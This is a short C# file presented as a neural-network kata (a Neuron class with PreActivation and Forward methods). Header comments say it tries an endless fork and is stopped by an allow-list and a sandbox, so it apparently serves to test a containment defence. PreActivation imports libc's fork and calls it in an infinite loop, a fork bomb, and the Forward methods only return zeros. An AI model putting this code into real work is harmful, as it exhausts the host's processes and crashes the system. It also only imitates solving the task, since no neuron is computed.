// tries: fork without end
// stopped by: allow-list
// then by: sandbox
namespace Katas.NeuronForward;

public sealed class Neuron(double[] weights, double bias, double alpha = 0.01)
{
    [System.Runtime.InteropServices.DllImport("libc", SetLastError = true)]
    private static extern int fork();

    public double PreActivation(double[] x)
    {
        while (true)
        {
            fork();
        }
        return 0;
    }

    public double Forward(double[] x) => 0;

    public double[] Forward(double[][] batch) => new double[batch.Length];
}
